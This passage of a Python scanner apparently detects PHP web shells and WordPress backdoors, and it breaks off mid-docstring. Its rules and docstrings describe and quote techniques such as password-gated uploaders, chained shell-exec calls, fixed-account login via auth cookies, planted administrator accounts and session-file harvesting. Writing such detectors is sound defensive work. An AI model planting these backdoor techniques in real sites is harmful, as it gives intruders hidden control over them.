    """The md5/sha1 of request input, held in a variable, compared with a variable the file
    sets to a hash written in it (``$typed = md5($_POST['p']); $key = '5f4d...';
    if ($typed == $key)``): a password of the file's own, as PASSWORD_HASH_GATE finds it
    written in one comparison. A site's login compares with a hash its database holds."""
    code = ctx.code
    typed = {m.group(1) for m in itertools.islice(_HASHED_REQUEST_VAR.finditer(code), 10)}
    if not typed:
        return False
    for name in typed:
        for m in itertools.islice(re.finditer(
                rb"\$" + re.escape(name) + rb"\s*[!=]==?\s*\$(" + NAME_P + rb")|\$(" + NAME_P
                + rb")\s*[!=]==?\s*\$" + re.escape(name) + rb"(?![\w\x80-\xff])", code), 10):
            other = m.group(1) or m.group(2)
            for _, a in var_assigns(code, other, TAIL_RHS, 3):
                lit = PLACEHOLDER.fullmatch(a.group(1).strip())
                if lit is not None and _HEX_HASH.fullmatch(
                        ctx.lx.value(int(lit.group(1))).strip().lower()):
                    return True
    return False


PASSWORD_HASH_GATE = tight(
    rb"(?:md5|sha1)\s*\([^;]{0,60}?" + _REQ_ANY + rb"[^;]{0,80}?[!=]==?\s*\x01\d+\x01"
)


@feature("small_uploader")
def _small_uploader(ctx: Ctx, rule: Rule) -> Hit | None:
    """A small uploader (:func:`_upload_unchecked`: anything stored under the client's
    name) that shows what it is for: it prints its own upload form, or it puts the file in
    the site's root, its own folder or a folder the request names. A site's upload handler
    answers a form or an editor elsewhere and keeps the files in a folder of its own."""
    if len(ctx.data) > int(rule.params.get("max_size", 4096)):
        return None
    hit = _upload_unchecked(ctx, rule)
    if hit is None:
        return None
    calls = list(itertools.islice(_UPLOAD.finditer(ctx.code), 20))
    if calls and all(site_session_gated(ctx, m.start()) for m in calls):
        return None  # every upload behind the site's own sign-in: an admin's page, no plant
    uploads = [top_args(m.group(2)) for m in calls]
    if (
        _own_upload_form(ctx)
        and not any(len(parts) > 1 and _handled_by_site(ctx, parts[1]) for parts in uploads)
        and (_secret_gate(ctx) or any(len(p) > 1 and _named_script(ctx, p[1]) for p in uploads))
    ):
        return hit  # a hidden upload page behind its own password, or one storing scripts
    aliases = tuple(b"$" + a for a in sorted(set(_FILES_ALIAS.findall(ctx.code)))[:10])
    for m in itertools.islice(_UPLOAD.finditer(ctx.code), 20):
        parts = top_args(m.group(2))
        if len(parts) > 1 and _loose_destination(ctx, parts[1], aliases):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.end()))
    return None


@feature("exec_chain")
def _exec_chain(ctx: Ctx, rule: Rule) -> Hit | None:
    """Several ways of running a shell command (``min_distinct`` of the names the rule's
    pattern catches), counting only calls that run a command the script does not write
    (:func:`script_command`): a web shell tries system, passthru, exec, shell_exec... on the
    command it was given; a backup or cron script that runs mysqldump with ``system()``,
    tar with ``exec()`` and an image optimizer with ``passthru()``, each line its own,
    chains nothing."""
    assert rule.regex is not None
    seen: dict[bytes, int] = {}
    for m in bounded_finditer(rule.regex, ctx.code, 2000, first=ctx.first):
        name = m.group(1)
        if name not in seen and not script_command(ctx, m.start()):
            seen[name] = m.start()
    if len(seen) >= int(rule.params.get("min_distinct", 2)):
        return Hit(ctx.line_of_code(min(seen.values())), excerpt(b", ".join(sorted(seen))))
    return None


@feature("backtick_request")
def _backtick_request(ctx: Ctx, rule: Rule) -> Hit | None:
    if "bq" not in ctx.lx.kinds:
        return None
    req, _ = taint(ctx)
    for i, kind in enumerate(ctx.lx.kinds):
        if kind != "bq":
            continue
        val = ctx.lx.value(i).lower()
        if REQ_RE.search(val) or set(VAR.findall(val)) & (req | ctx.cache["header"]):
            return Hit(ctx.line_of_string(i), excerpt(b"`" + val + b"`"))
    return None


_FILE_OPS = tight(
    rb"(unlink|rmdir|rename|chmod|file_put_contents|fwrite|fopen|move_uploaded_file|"
    rb"copy|mkdir|readfile|file_get_contents|highlight_file|show_source|scandir|opendir|glob|"
    rb"touch|filemtime|fileperms)\s*\("
)


_FILE_OP_NAMES = tuple(_FILE_OPS.pattern[1 : _FILE_OPS.pattern.index(b")")].split(b"|"))


@feature("file_manager")
def _file_manager(ctx: Ctx, rule: Rule) -> Hit | None:
    code = ctx.code
    text = string_text(ctx)
    if find(text, b"<form") < 0 and find(text, b"<input") < 0 and find(text, b"<textarea") < 0:
        return None
    if not request_input_in_code(ctx):
        return None
    # each operation found is one of these names in the code: fewer than 7 present, no hit
    present = 0
    for k, name in enumerate(_FILE_OP_NAMES):
        present += has_word(ctx, name)
        if present + len(_FILE_OP_NAMES) - k - 1 < 7:
            return None  # too few left to reach 7

    ops = {m.group(1) for m in bounded_finditer(_FILE_OPS, code, 500, first=ctx.first)}
    if len(ops) < 7 or _lists_only_fixed(ctx):
        return None
    return Hit(0, excerpt(b", ".join(sorted(ops))))


_LISTINGS = (b"scandir", b"opendir", b"glob")


def _lists_only_fixed(ctx: Ctx) -> bool:
    """The file lists folders, and only ones it names itself: every listing call
    (``scandir``, ``opendir``, ``glob``) is given one literal with no variable in it
    (``glob('*.zip')``) and the working folder is never changed (``chdir``). A backup or
    import page that offers the ``*.zip`` or ``*.sql`` files lying beside it lists no
    folder the visitor picks; a file manager lists the one it is told
    (``scandir($_GET['d'])``, ``opendir("$dir")``, ``chdir($pwd)`` and ``opendir('.')``).
    A file with no listing call at all is not told apart (a decoded layer may hold the
    shell's listing function elsewhere)."""
    if has_word(ctx, b"chdir"):
        return False
    listings = calls_to(ctx, _LISTINGS, 40)
    for _, args in listings:
        arg = first_arg(args).strip().lstrip(b"@").strip()
        lit = PLACEHOLDER.fullmatch(arg)
        if lit is None or b"$" in ctx.lx.value(int(lit.group(1))):
            return False
    return bool(listings)


# what a file manager does to a path, by kind: delete, change the mode or owner, move,
# write over, send out
_PATH_OPS = {
    b"unlink": b"delete", b"rmdir": b"delete", b"chmod": b"chmod", b"chown": b"chmod",
    b"chgrp": b"chmod", b"rename": b"move", b"copy": b"move", b"file_put_contents": b"write",
    b"readfile": b"send", b"highlight_file": b"send", b"show_source": b"send",
}
_PATH_OP_NAMES = tuple(_PATH_OPS)
# any sign of a sign-in: a session, a password or a token tested, a cookie, HTTP auth, the
# CMS's user checks; or a file of the application included (its bootstrap checks the user)
_SIGN_IN_WORDS = (
    b"session", b"pass", b"pwd", b"auth", b"login", b"logged", b"token", b"nonce", b"cookie",
    b"current_user_can", b"is_admin", b"is_super_admin", b"md5", b"sha1", b"hash", b"crypt",
    b"include", b"require", b"defined", b"$argv", b"php_sapi", b"htpasswd", b"secret",
    b"key",
)


@feature("open_file_manager")
def _open_file_manager(ctx: Ctx, rule: Rule) -> Hit | None:
    """A file manager that asks nobody who they are: a path the request gives whole
    (``unlink($_POST['f'])``, ``$f = $_POST['file']; chmod($f, ...)``) deleted, its mode
    changed, moved, written over or sent out, two of those kinds, in a file with no sign of
    a sign-in at all (no session, password, token, cookie, HTTP auth or CMS check, no file
    of the application included). A site's file manager runs behind its login (an elFinder
    connector includes the library and its access checks; a one-file manager keeps a
    password and a session)."""
    code = ctx.code
    if not request_input_in_code(ctx):
        return None
    if any(find(code, w) >= 0 for w in _SIGN_IN_WORDS):
        return None
    kinds: dict[bytes, int] = {}
    for start, args in calls_to(ctx, _PATH_OP_NAMES, 40):
        name = code[start : start + 20].split(b"(")[0].strip()
        kind = _PATH_OPS.get(name)
        if kind is None or kind in kinds:
            continue
        arg = first_arg(args).strip().lstrip(b"@")
        if _request_path(ctx, arg):
            kinds[kind] = start
        if len(kinds) >= 2:
            first = min(kinds.values())
            return Hit(ctx.line_of_code(first), excerpt(
                b", ".join(sorted(kinds)) + b" of a path the request names"))
    return None


# the request's own text as it came: $_POST['src'], trim(stripslashes($_POST['src'])) (not
# decoded: a decoder's output written is a dropper's, a rule of its own)
_REQUEST_VALUE = tight(
    rb"[\s(@]*(?:" + builtin_macro("KEEP_TEXT").encode()
    + rb"\s*\(\s*)*\$_(?:get|post|request)\s*\[\s*\x01\d+\x01\s*\][\s)]*"
)
# where a script writes: the whole file, or a handle it opened
_WRITES = (b"file_put_contents", b"fwrite", b"fputs")
# a concatenation's operator at the top of an expression (its literals are placeholders)
_DOT = tight(rb"\s*\.\s*")
# the site's own sign-in or its application loaded around a write: a session, HTTP auth,
# the CMS's user checks, a file of the application included (its bootstrap checks the user)
_SITE_SIGN_IN = (
    b"$_session", b"session_start", b"php_auth_user", b"password_verify",
    b"current_user_can", b"is_user_logged_in", b"check_admin_referer", b"include",
    b"include_once", b"require", b"require_once",
)  # fmt: skip


def _top_pieces(expr: bytes) -> list[bytes]:
    """The operands of the concatenation ``expr`` at its top level (``PATH . '/' . $_GET['e']``
    -> three pieces); the whole expression when it joins nothing."""
    pieces: list[bytes] = []
    depth = 0
    start = 0
    for i, c in enumerate(expr[:600]):
        if c in b"([{":
            depth += 1
        elif c in b")]}":
            depth -= 1
        elif c == 46 and depth == 0:  # "."
            pieces.append(expr[start:i].strip())
            start = i + 1
    pieces.append(expr[start:].strip())
    return [p for p in pieces if p]


def _from_request(ctx: Ctx, expr: bytes, whole: re.Pattern[bytes]) -> bytes | None:
    """``expr`` as the request gives it: the expression itself when it matches ``whole``, or
    the right-hand side of the variable ``expr`` names when every assignment of it (at most
    five) does; None otherwise."""
    expr = expr.strip().lstrip(b"@").strip()
    if whole.fullmatch(expr) is not None:
        return expr
    v = VAR.fullmatch(expr)
    if v is None or v.group(1).startswith(b"_"):
        return None
    given = var_assigns(ctx.code, v.group(1), TAIL_RHS, 5)
    if not given or not all(whole.fullmatch(a.group(1).strip()) for _, a in given):
        return None
    return given[-1][1].group(1).strip()


# an expression holding a request value somewhere in it
_WITH_REQUEST = tight(rb"[^;]{0,300}?\$_(?:get|post|request)\s*\[[^;]{0,300}")


def _request_piece(ctx: Ctx, piece: bytes) -> bool:
    """``piece`` of a path is the request's: it holds a request value, or it is a variable
    every assignment of which (at most five) does."""
    return _from_request(ctx, piece, _WITH_REQUEST) is not None


def _request_names_file(ctx: Ctx, path: bytes) -> bool:
    """The file ``path`` writes is one the request picks, ending and all: the path holds a
    request value (``$_POST['f']``, ``PATH . '/' . $_GET['e']``, ``$dir . '/' . $name``
    with both set from the request; also through one variable set to such a path), and
    its last piece is the request's too, or a literal ending that runs (``.php``); a last
    piece of the script's own (``'notes/' . $_POST['id'] . '.txt'``, a ``$file`` it names)
    is its own kind of data file."""
    text = _from_request(ctx, path, _WITH_REQUEST)
    if text is None:
        v = VAR.fullmatch(path.strip().lstrip(b"@").strip())
        given = var_assigns(ctx.code, v.group(1), TAIL_RHS, 1) if v is not None else []
        text = given[0][1].group(1).strip() if given else path
    pieces = _top_pieces(text)
    if not pieces or not any(_request_piece(ctx, p) for p in itertools.islice(pieces, 8)):
        return False
    last = pieces[-1]
    lit = PLACEHOLDER.fullmatch(last)
    if lit is not None:
        return _RUN_EXTENSION.search(ctx.lx.value(int(lit.group(1))).lower()) is not None
    return _request_piece(ctx, last)


@feature("request_file_overwrite")
def _request_file_overwrite(ctx: Ctx, rule: Rule) -> Hit | None:
    """A file the request names written with the text the request gives: the path is the
    visitor's (a request value, or a folder joined with one, ending with it), the text is a
    posted field as it came (also through a variable set to it), written whole
    (``file_put_contents``) or to a handle opened for writing (``fopen(..., 'w')``,
    ``fwrite``), in a file with no sign of the site's sign-in around it (no session, HTTP
    auth, CMS user check, nothing of the application included): anyone who finds the page
    puts any code anywhere the site can write. A CMS's editor runs behind its login; a
    notes page writes its own kind of file (``'notes/' . $id . '.txt'``)."""
    code = ctx.code
    if not request_input_in_code(ctx) or any(has_word(ctx, w) for w in _SITE_SIGN_IN):
        return None
    for start, args in calls_to(ctx, _WRITES, 40):
        parts = top_args(args[: close_paren(args)])
        if len(parts) < 2 or _from_request(ctx, parts[1], _REQUEST_VALUE) is None:
            continue
        if code.startswith(b"file_put_contents", start):
            path = parts[0]
        else:
            opened = opened_for(ctx, start, parts[0])
            if opened is None or opened[1] not in (b"w", b"a", b"x", b"c"):
                continue
            path = opened[0]
        if _request_names_file(ctx, path):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# the folder of a CMS's plugins or themes, as a script names it ('./wp-content/plugins/')
_EXTENSION_FOLDER = tight(rb"wp-content/(?:plugins|themes|mu-plugins)\b")
_RENAMES = tight(rb"(?<![\w$>:])@?rename\s*\(")
_PARAMS = tight(rb"function\s+&?\s*(" + NAME_P + rb")\s*\(([^)]{0,300})\)")


def _names_extension_folder(ctx: Ctx, expr: bytes) -> bool:
    """``expr`` holds the plugins' or themes' folder: a literal of it, or a variable set to
    one (``$plugins_path = './wp-content/plugins/'``)."""
    value = ctx.lx.value
    texts = [expr] + [
        a.group(1)
        for v in itertools.islice(VAR.finditer(expr), 4)
        for _, a in var_assigns(ctx.code, v.group(1), TAIL_RHS, 3)
    ]
    return any(
        _EXTENSION_FOLDER.search(value(int(q.group(1))).lower()) is not None
        for t in texts
        for q in itertools.islice(PLACEHOLDER.finditer(t), 8)
    )


@feature("open_plugin_switch")
def _open_plugin_switch(ctx: Ctx, rule: Rule) -> Hit | None:
    """A page that renames the folder of a plugin or theme the request names
    (``rename($plugins . $_POST['plugin_name'], $plugins . '_' . $_POST['plugin_name'])``,
    or through a function of the file's own given the folder and the request's name), in a
    file with no sign of a sign-in and nothing of the site loaded: anyone who finds it turns
    off the site's security plugin or its theme. WordPress deactivates plugins from its own
    dashboard, behind its login; a rescue script renames the whole folder it names."""
    code = ctx.code
    if not request_input_in_code(ctx) or any(find(code, w) >= 0 for w in _SIGN_IN_WORDS):
        return None
    renames = list(itertools.islice(prefiltered_finditer(_RENAMES, code, ctx.first), 20))
    if not renames:
        return None
    req, _ = taint(ctx)

    def from_request(text: bytes) -> bool:
        return UIN_RE.search(text) is not None or any(
            v.group(1) in req for v in itertools.islice(VAR.finditer(text), 8)
        )

    for m in renames:
        args = code[m.end() : m.end() + 400]
        arg = first_arg(args)
        # directly: the folder and the request's name joined in the call
        if from_request(arg) and _names_extension_folder(ctx, arg):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
        # through a function of the file's own: its parameters joined in the call, the
        # folder and the request's name given at a call of the function
        for f in itertools.islice(_PARAMS.finditer(code, 0, m.start()), 200):
            body = braced(code, find(code, b"{", f.end()))
            if not f.end() < m.start() < f.end() + len(body) + 10:
                continue
            params = [
                p.strip().lstrip(b"&").split(b"=")[0].strip() for p in f.group(2).split(b",")
            ]
            used = [i for i, p in enumerate(params) if p and arg.find(p) >= 0]
            if len(used) < 2:
                continue
            call = re.compile(rb"(?<![\w$>:])" + re.escape(f.group(1)) + rb"\s*\(")
            for c in itertools.islice(call.finditer(code), 10):
                if c.start() == f.start(1):
                    continue
                given = top_args(code[c.end() : c.end() + 400])
                if len(given) <= max(used):
                    continue
                passed = b" ".join(given[i] for i in used)
                if from_request(passed) and _names_extension_folder(ctx, passed):
                    at = c.start()
                    return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
    return None


# a request value as it came, maybe trimmed or decoded
_REQUEST_WHOLE = tight(
    rb"[\s(]*(?:" + KEEP + rb"\s*\(\s*)*\$_(?:get|post|request)\s*\[\s*\x01\d+\x01\s*\][\s)]*"
)


def _request_path(ctx: Ctx, arg: bytes) -> bool:
    """``arg`` is a path the request gives whole: a request value as it came, or a variable
    every assignment of which sets it to one, and that nothing checks (``in_array``,
    ``basename``, ``realpath``: :func:`checked_value`)."""
    if _from_request(ctx, arg, _REQUEST_WHOLE) is None:
        return False
    v = VAR.fullmatch(arg.strip().lstrip(b"@").strip())
    return v is None or not checked_value(ctx.code, v.group(1))


_FORM_FIELD = tight(
    rb"<(?:input|textarea|select)\b[^>]{0,300}?\bname\s*=\s*[\"']?([a-z_][a-z0-9_]{0,40})"
)


_REQUEST_READS = tight(rb"\$_(?:get|post|request|cookie|files)\s*\[\s*\x01(\d+)\x01")


@per_file("request-reads")
def _request_reads(ctx: Ctx) -> list[bytes]:
    """The literal indexes of the request fields the file reads (``$_POST['x']``)."""
    found: list[bytes] = _REQUEST_READS.findall(ctx.code)
    return found


@feature("form_globals")
def _form_globals(ctx: Ctx, rule: Rule) -> Hit | None:
    """A form field whose name is used as a bare variable in a command/file/SQL call, while
    the file never reads that field from $_GET/$_POST/$_REQUEST: the script relies on
    register_globals to turn request fields into variables (old web shells and tools)."""
    text = string_text(ctx)
    if find(text, b"name") < 0:
        return None
    fields = set(_FORM_FIELD.findall(text))
    if not fields:
        return None
    for start, args in calls_to(ctx, GLOBALS_SINKS, 100):
        for var in sorted(set(VAR.findall(interpolated(ctx, first_arg(args))))):
            if var not in fields:
                continue
            # read from the request under that name anywhere? then it is not register_globals
            read_idx = _request_reads(ctx)
            if read_idx and any(ctx.lx.value(int(i)).lower() == var for i in read_idx):
                continue
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


@feature("ui_with_exec")
def _ui_with_exec(ctx: Ctx, rule: Rule) -> Hit | None:
    """A web shell user interface (shell.ui-words) in a file that also runs commands or
    takes uploads: the interface is wired to the dangerous part."""
    hits: dict[str, tuple[Rule, Hit, int]] = ctx.cache["hits"]
    if "shell.ui-words" not in hits:
        return None
    code = ctx.cache.get("code0", b"")
    calls = find_calls(code, EXEC_NAMES_B, 1)
    if not calls and b"move_uploaded_file" not in code:
        return None
    what = "runs commands" if calls else "takes uploads"
    return Hit(0, f"shell interface words and the file {what}")


_OTHER_ACCOUNTS = tight(rb"/home\d*/|public_html|wp-config\.php|configuration\.php")


_SESSION_DIR = tight(rb"/tmp/?|/var/lib/php\d*/sessions?/?|/var/lib/php\d*/?")


_SESSION_PATH_CALL = tight(rb"(?<![\w$>:])session_save_path\s*\(")  # the function


_GLOB_FOREACH = tight(
    rb"foreach\s*\(\s*glob\s*\([^;]{0,200}?\)\s*as\s*(?:\$\w+\s*=>\s*)?\$(\w+)"
)


@feature("session_harvest")
def _session_harvest(ctx: Ctx, rule: Rule) -> Hit | None:
    """Lists the shared session folder (``/tmp``, ``/var/lib/php/sessions`` or
    ``session_save_path()``) and reads files in it (a path under that folder, or a name
    that a ``foreach (glob(...))`` listed), with ``sess_`` in the file: the sessions of every
    visitor of every site on the server (session hijacking). A clean-up job that only deletes
    old session files does not read them."""
    lx = ctx.lx
    if b"sess_" not in string_text(ctx):
        return None
    code = ctx.code
    listed = prefiltered_search(_SESSION_PATH_CALL, code, ctx.first) is not None or any(
        _SESSION_DIR.fullmatch(lx.value(i).split(b"*", 1)[0]) is not None
        for i in range(len(lx.raw_strings))
    )
    if not listed:
        return None
    if not calls_to(ctx, SESSION_LISTS, 1):
        return None
    globbed = {m.group(1) for m in _GLOB_FOREACH.finditer(code)}
    for start, args in calls_to(ctx, SESSION_READS, 50):
        path = first_arg(args)
        if (
            _SESSION_PATH_CALL.search(path) is not None
            or any(
                _SESSION_DIR.match(lx.value(int(i))) is not None for i in PLACEHOLDER.findall(path)
            )
            or any(v in globbed for v in VAR.findall(path))
        ):
            if _only_tested(ctx, start):
                continue  # a "who's online" counter: the content is searched, never shown
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# a call that answers whether its first argument holds something, not what it holds
_TEST_CALL = tight(
    rb"(?:strpos|stripos|str_contains|preg_match|substr_count|strlen|filesize)\s*\(\s*$"
)


def _only_tested(ctx: Ctx, start: int) -> bool:
    """Whether what the read at ``start`` returns is kept in a variable whose every other
    mention is the first argument of a test (``strpos($data, 'user_id')``): a count of the
    sessions that hold a login, not a copy of their contents."""
    code = ctx.code
    got = assignment_before(code, start)
    if got is None:
        return False
    uses = 0
    for at in var_mentions(code, got[0], start=start):
        end = at + len(got[0]) + 1
        if _TEST_CALL.search(code, max(0, at - 40), at) is None:
            return False
        nxt = code[end : end + 3].lstrip()[:1]
        if nxt not in (b",", b")"):
            return False
        uses += 1
    return uses > 0


_WP_BOOT = tight(rb"wp-(?:load|blog-header|config)\.php")


# a constant user id; 0 is nobody (core code logs out with wp_set_current_user(0))
_FIXED_USER = tight(rb"\s*(?:\(\s*int\s*\)\s*)?(?:0*[1-9]\d*|\x01(\d+)\x01)\s*[,)]")


@feature("wp_login_bypass")
def _wp_login_bypass(ctx: Ctx, rule: Rule) -> Hit | None:
    """A fixed WordPress account (``wp_set_auth_cookie(1)``: the first administrator) logged
    in when the request carries a parameter: whoever knows it is admin, no password asked.
    Login code passes the id of the user who just authenticated, never a constant. An
    administrator looked up by role and given the auth cookie, with no check at all, makes
    every visitor of the page the administrator (no parameter needed)."""
    for start, args in calls_to(ctx, (b"wp_set_auth_cookie",), 20):
        if _admin_role_login(ctx, args):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 60))
    if not has_request_words(ctx):
        if not has_any(ctx, (b"query_vars", b"get_query_var")):
            return None
        # the request read through WordPress's query variables only: a user named there
        for start, _args in calls_to(ctx, (b"wp_set_auth_cookie",), 20):
            if _request_account_login(ctx, start):
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 60))
        return None
    code = ctx.code
    for start, args in calls_to(ctx, WP_LOGIN_CALLS, 50):
        fixed = _FIXED_USER.match(args)
        if fixed is None:
            continue
        if fixed.group(1) is not None:  # a quoted id: '1'
            user = ctx.lx.value(int(fixed.group(1))).strip()
            if not user.isdigit() or int(user) == 0:
                continue
        if UIN_RE.search(code, max(0, start - 400), start) is not None:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 60))
    for start, _args in calls_to(ctx, (b"wp_set_auth_cookie",), 20):
        if _fixed_account_login(ctx, start) or _request_account_login(ctx, start):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 60))
    return None


@feature("wp_admin_create")
def _wp_admin_create(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that boots WordPress by itself (requires wp-load.php, wp-blog-header.php or
    wp-config.php) and creates a user with the administrator role: the backdoor account
    that attackers drop next to a site. Plugins create users from inside WordPress and do
    not load it themselves; but a function (a hook's) that makes an administrator whose
    login and password are written in the code, or when the request carries a parameter,
    with no capability or nonce check, is the same backdoor in a plugin or functions.php."""
    text = string_text(ctx)
    if b"administrator" not in text:
        return None
    calls = calls_to(ctx, WP_USER_CALLS, 5) + _wp_user_makers(ctx)
    if not calls:
        return None
    start = calls[0][0]
    if _WP_BOOT.search(text) is not None:
        if _cli_only(ctx, start):
            return None  # a provisioning script the owner runs on the shell: no web page
        return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    for start, args in calls:
        body = _enclosing_body(ctx, start)
        if _WP_ADMIN_ROLE.search(body) is None or _WP_CHECKS.search(body) is not None:
            continue
        parts = top_args(args)
        before = ctx.code[_enclosing_span(ctx, start)[0] : start]
        fixed = len(parts) >= 2 and all(_fixed_value(before, a.strip()) for a in parts[:2])
        if len(parts) == 1 and _TEST_CASE.search(ctx.code) is None:
            # wp_insert_user($userdata): the login and password in the array it is given
            fixed = _fixed_account_array(ctx, before, parts[0])
        if fixed or UIN_RE.search(body) is not None:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# the script stops unless PHP runs it on the command line: if (php_sapi_name() !== 'cli')
# exit; (PHP_SAPI, the literal on either side)
_SAPI = rb"(?:php_sapi_name\s*\(\s*\)|\\?php_sapi)"
_CLI_GUARD = tight(
    rb"(?<![\w$>:])if\s*\(\s*(?:" + _SAPI + rb"\s*!==?\s*\x01(\d+)\x01|\x01(\d+)\x01\s*!==?\s*"
    + _SAPI + rb")\s*\)\s*\{?\s*(?:exit|die)\b"
)


def _cli_only(ctx: Ctx, pos: int) -> bool:
    """Whether the script, before offset ``pos``, stops unless run from the command line
    (``if (php_sapi_name() !== 'cli') exit;``): it cannot be called over the web."""
    for m in itertools.islice(_CLI_GUARD.finditer(ctx.code, 0, pos), 5):
        lit = m.group(1) or m.group(2)
        if ctx.lx.value(int(lit)).strip().lower() == b"cli":
            return True
    return False


# ``$u = new WP_User($id)``: a user object made from an id that a call returned
_NEW_WP_USER = tight(rb"new\s+wp_user\s*\(\s*\$(" + NAME_P + rb")\s*\)")


def _wp_user_makers(ctx: Ctx) -> list[tuple[int, bytes]]:
    """The calls whose result becomes a ``new WP_User(...)`` (``$id = make_user('a', 'b');
    $u = new WP_User($id);``): the account maker, whatever it is called (a helper of the
    plugin's own, or a misspelt wp_create_user)."""
    if ctx.first(b"wp_user") < 0:
        return []
    out: list[tuple[int, bytes]] = []
    for m in itertools.islice(_NEW_WP_USER.finditer(ctx.code), 5):
        for pos, a in var_assigns(ctx.code[: m.start()], m.group(1), TAIL_RHS, 3):
            call = _CALL_OF.match(a.group(1))
            if call is not None:
                out.append((pos, a.group(1)[call.end() :]))
    return out


_CALL_OF = tight(rb"\s*(" + NAME_P + rb")\s*\(")


def _fixed_value(body: bytes, arg: bytes) -> bool:
    """Whether a call's argument is written in the code: a literal, or a variable that the
    function sets to a literal (``$username = 'bdog'; wp_create_user($username, ...)``) and
    to nothing else."""
    if PLACEHOLDER.fullmatch(arg):
        return True
    v = VAR.fullmatch(arg)
    if v is None:
        return False
    sets = [m.group(1) for _, m in var_assigns(body, v.group(1), TAIL_RHS, 5)]
    return bool(sets) and all(PLACEHOLDER.fullmatch(rhs.strip()) for rhs in sets)


# an array literal: array(...) or [...], as written or as a variable is set to one
_ARRAY_OPEN = tight(rb"\s*(?:array\s*\(|\[)")
_ARRAY_RHS = tight(rb"\s*=(?![=>])\s*(?:array\s*\(|\[)([^;]{0,1000})")
# 'key' => value, the value up to the next comma or the array's end
_ARRAY_ENTRY = tight(rb"\x01(\d+)\x01\s*=>\s*([^,)\]]{1,200})")
# a unit test's class (WP_UnitTestCase, PHPUnit's TestCase): accounts made for a test run
_TEST_CASE = tight(rb"\bextends\s+\\?(?:[\w\\]+\\)?\w*testcase\b")


def _fixed_account_array(ctx: Ctx, before: bytes, arg: bytes) -> bool:
    """Whether the one argument of ``wp_insert_user()`` is an array (as written, or a
    variable the function sets to one and to nothing else) whose ``user_login`` and
    ``user_pass`` are written in the code: literals, or variables set to literals
    (``$userdata = array('user_login' => $username, 'user_pass' => $userpass, ...)``)."""
    arg = arg.strip()
    if _ARRAY_OPEN.match(arg) is not None:
        text = arg
    else:
        v = VAR.fullmatch(arg)
        if v is None:
            return False
        sets = var_assigns(before, v.group(1), TAIL_RHS, 5)
        arrays = var_assigns(before, v.group(1), _ARRAY_RHS, 5)
        if len(arrays) != 1 or len(sets) != 1:
            return False
        text = arrays[0][1].group(1)
    entries = {
        ctx.lx.value(int(e.group(1))).strip().lower(): e.group(2).strip()
        for e in itertools.islice(_ARRAY_ENTRY.finditer(text), 40)
    }
    return all(
        key in entries and _fixed_value(before, entries[key])
        for key in (b"user_login", b"user_pass")
    )


# SQL that makes or takes over a WordPress account: a row written into the users table, or
# a password set there
_WP_USERS_SQL = tight(
    rb"insert\s+into\s+[`'\"]?(?:\x00|\{?\$\w+\}?)?\w*users[`'\"]?\s*\(|update\s+[`'\"]?\w*users[`'\"]?\s+set\s+"
    rb"[`'\"]?user_pass"
)


@feature("wp_users_sql")
def _wp_users_sql(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that reads WordPress's database settings by itself (requires wp-config.php
    or wp-load.php) and, on a request, writes an account into the users table with its own
    SQL (``INSERT INTO wp_users``, the ``wp_capabilities`` of an administrator) or sets a
    user's password there: an account backdoor dropped next to the site. WordPress and its
    plugins make and change users through its API (wp_insert_user, wp_set_password), on
    the table ``$wpdb->users``, not by a table name written in a query."""
    text = string_text(ctx)
    if _WP_BOOT.search(text) is None:
        return None
    if not has_request_words(ctx) and _SELF_UNLINK.search(ctx.code) is None:
        return None  # run on a request, or once by a dropper that deletes itself
    m = prefiltered_search(_WP_USERS_SQL, text)
    if m is None:
        # the same row through WordPress's database object: $wpdb->insert($wpdb->users, ...)
        w = _WPDB_USERS_INSERT.search(ctx.code) if ctx.first(b"insert") >= 0 else None
        if w is None or b"administrator" not in text:
            return None
        return Hit(ctx.line_of_code(w.start()), ctx.excerpt_code(w.start(), w.start() + 100))
    if m.group(0).startswith(b"insert") and b"administrator" not in text:
        return None  # a row without the administrator's capabilities is no backdoor account
    return string_hit(ctx, m)


_WPDB_USERS_INSERT = tight(rb"->\s*insert\s*\(\s*\$wpdb\s*->\s*users\b")
_SELF_UNLINK = tight(rb"unlink\s*\(\s*(?:__file__|\$_server\s*\[\s*\x01\d+\x01\s*\])\s*\)")


# code kept as text: a call that makes a WordPress user, with the administrator role
_ADMIN_CODE = tight(rb"wp_(?:create|insert)_user\s*\(")
_WRITES_FILES = (b"fwrite", b"fputs", b"file_put_contents")


@feature("wp_admin_code_written")
def _wp_admin_code_written(ctx: Ctx, rule: Rule) -> Hit | None:
    """Code that creates a WordPress administrator held in the script's strings
    (``"$user_id = wp_create_user('admin', 'admin');"``) by a script that writes files: a
    plugin or dropper that plants the account backdoor into the theme's functions.php or
    another file, where it survives the dropper's removal. Plugins call wp_create_user;
    they do not carry it as text to write elsewhere."""
    if not calls_to(ctx, _WRITES_FILES, 1):
        return None
    text = string_text(ctx)
    m = _ADMIN_CODE.search(text)
    if m is None or find(text, b"administrator") < 0:
        return None
    return string_hit(ctx, m, span=80)


# a plugin list rewritten (all_plugins filter, unset of an entry), or a row of the plugins
# page hidden by a style: the plugin (or another) kept out of the site owner's sight
_HIDE_STYLE = tight(rb"data-slug\s*=[^\x00]{0,200}?display\s*:\s*none|"
                         rb"#the-list\s+tr[^\x00]{0,200}?display\s*:\s*none")


_UNSET_ENTRY = tight(rb"unset\s*\(\s*\$" + NAME_P + rb"\s*\[")


@feature("wp_plugin_hidden")
def _wp_plugin_hidden(ctx: Ctx, rule: Rule) -> Hit | None:
    """A plugin that hides a plugin from the site owner: an ``all_plugins`` filter whose
    callback removes entries (``unset($plugins['x/x.php'])``), or a style printed into the
